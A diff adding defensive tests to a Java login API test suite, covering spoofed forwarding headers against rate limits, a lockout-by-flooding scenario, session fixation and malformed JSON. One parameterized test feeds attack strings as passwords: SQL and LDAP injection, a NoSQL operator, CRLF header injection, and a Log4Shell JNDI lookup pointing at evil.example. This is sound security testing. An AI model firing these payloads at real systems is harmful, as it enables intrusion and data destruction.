@@ -21,14 +21,24 @@ import es.o2.mio2.api.Language;
 import es.o2.mio2.api.ServiceClock;
 import es.o2.mio2.support.Api;
 import es.o2.mio2.support.Database;
+import es.o2.mio2.support.Eventually;
 import es.o2.mio2.support.Jwt;
+import es.o2.mio2.support.Load;
 import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.RestAssured;
 import io.restassured.http.Header;
 import io.restassured.response.Response;
+import io.vertx.core.http.HttpMethod;
 import jakarta.inject.Inject;
+import java.net.URI;
 import java.time.Duration;
+import java.util.ArrayList;
+import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
+import java.util.Set;
+import java.util.concurrent.atomic.AtomicInteger;
+import java.util.stream.Collectors;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -192,6 +202,123 @@ class LoginTest {
         }
     }
 
+    @Test
+    void norDoesItHelpToClaimAnotherAddressEachTime() {
+        database.run("delete from audit_record");
+        // Of the 100 000 tries from one address, three are left.
+        database.run(
+                "insert into attempt_counter values ('address:unknown:127.0.0.1', now() + interval '10 minutes', 99997)");
+        List<Integer> statuses = new ArrayList<>();
+        for (int i = 1; i <= 5; i++) {
+            String claimed = "10.1.2." + i;
+            statuses.add(Api.given()
+                    .header("X-Forwarded-For", claimed)
+                    .header("Forwarded", "for=" + claimed)
+                    .header("X-Real-IP", claimed)
+                    .header("True-Client-IP", claimed)
+                    .body(credentials(UNKNOWN, "wrong", "APP"))
+                    .post("/v1/sessions")
+                    .statusCode());
+        }
+        assertEquals(List.of(401, 401, 401, 429, 429), statuses);
+        assertEquals(
+                List.of("127.0.0.1", "127.0.0.1", "127.0.0.1"), database.texts("select address from audit_record"));
+    }
+
+    @Test
+    void aThousandStrangersTriesLeaveHerRefreshAndHerDeviceAlone() {
+        Response hers = logIn(MARTA, PASSWORD);
+        String device = hers.cookie(SessionCookies.DEVICE);
+        AtomicInteger tries = new AtomicInteger();
+        try (Load strangers = new Load(URI.create("http://localhost:" + RestAssured.port), 20)) {
+            var answers = strangers.closed(20, () -> tries.incrementAndGet() <= 1_000, () -> wrong(MARTA));
+            String refreshToken = hers.path("refreshToken");
+            for (int round = 0; round < 5; round++) {
+                Response refreshed =
+                        Api.given().body(Map.of("refreshToken", refreshToken)).post("/v1/session-refreshes");
+                refreshed.then().statusCode(200);
+                refreshToken = refreshed.path("refreshToken");
+                // In a crowd at the door, the turn may come with the second try.
+                Eventually.within(
+                        Duration.ofSeconds(20),
+                        "she is let in from her device",
+                        () -> onDevice(device, MARTA, PASSWORD).statusCode() == 201);
+            }
+            assertEquals(
+                    Set.of(401, 503),
+                    answers.join().stream().map(Load.Answered::status).collect(Collectors.toSet()));
+            assertEquals(1_000, answers.join().size());
+        }
+        logIn(MARTA, PASSWORD).then().statusCode(401);
+        onDevice(device, MARTA, PASSWORD).then().statusCode(201);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "' or '1'='1",
+                "'; drop table credential; --",
+                "*)(uid=*))(|(uid=*",
+                "{\"$ne\": null}",
+                "${jndi:ldap://evil.example/x}",
+                "$argon2id$v=19$m=8,t=1,p=1$c29tZXNhbHQ$AAAA",
+                "%00%0d%0aSet-Cookie: a=b",
+                "\t\u007f",
+                "\ud83d\ude00"
+            })
+    void metacharactersMakeAWrongPasswordLikeAnyOther(String password) {
+        Response known = logIn(MARTA, password);
+        Response unknown = logIn(UNKNOWN, password);
+        known.then().statusCode(401).body("code", equalTo("INVALID_CREDENTIALS"));
+        assertEquals(401, unknown.statusCode());
+        assertEquals(known.asString(), unknown.asString());
+        assertEquals(namesOf(known), namesOf(unknown));
+        assertEquals(201, logIn(MARTA, PASSWORD).statusCode());
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"{\"$gt\":\"\"}", "[\"12345678Z\"]", "12345678", "true"})
+    void whatIsNoTextIsNoCredential(String value) {
+        for (String body : List.of(
+                "{\"documentId\":" + value + ",\"password\":\"x\",\"channel\":\"APP\"}",
+                "{\"documentId\":\"12345678Z\",\"password\":" + value + ",\"channel\":\"APP\"}")) {
+            int status = Api.given().body(body).post("/v1/sessions").statusCode();
+            // A number is taken as its digits, which open nothing.
+            assertTrue(Set.of(400, 401).contains(status), value + " gives " + status);
+        }
+    }
+
+    @Test
+    void noRequestNamesItsOwnSession() {
+        String planted = "3f0d6c9e-5a4b-4c8e-9d2f-7b1a6e5c4d3b";
+        for (String field : List.of("sid", "sessionId", "refreshToken")) {
+            Map<String, String> body = new HashMap<>(credentials(MARTA, PASSWORD, "APP"));
+            body.put(field, planted);
+            Api.given()
+                    .body(body)
+                    .post("/v1/sessions")
+                    .then()
+                    .statusCode(400)
+                    .body("errors[0].code", equalTo("UNKNOWN"));
+            Api.given()
+                    .body(credentials(MARTA, PASSWORD, "APP"))
+                    .post("/v1/sessions?" + field + "=" + planted)
+                    .then()
+                    .statusCode(400);
+        }
+        String before = Api.login(MARTA);
+        String after = Api.as(before)
+                .cookie("sid", planted)
+                .body(credentials(MARTA, PASSWORD, "APP"))
+                .post("/v1/sessions")
+                .then()
+                .statusCode(201)
+                .extract()
+                .path("accessToken");
+        assertNotEquals(Jwt.of(before).session(), Jwt.of(after).session());
+        assertNotEquals(planted, Jwt.of(after).session().toString());
+    }
+
     @ParameterizedTest
     @CsvSource({
         "192.0.2.7, 192.0.2.7",
@@ -277,6 +404,18 @@ class LoginTest {
     private String hashOf(String documentId) {
         return database.texts("select password_hash from credential where document_id = '" + documentId + "'")
                 .get(0);
+    }
+
+    private static Response onDevice(String device, String documentId, String password) {
+        return Api.given()
+                .cookie(SessionCookies.DEVICE, device)
+                .body(credentials(documentId, password, "APP"))
+                .post("/v1/sessions");
+    }
+
+    private static Load.Request wrong(String documentId) {
+        String body = "{\"documentId\":\"" + documentId + "\",\"password\":\"wrong\",\"channel\":\"APP\"}";
+        return new Load.Request(HttpMethod.POST, "/v1/sessions", List.of(), body);
     }
 
     private static Response logIn(String documentId, String password) {
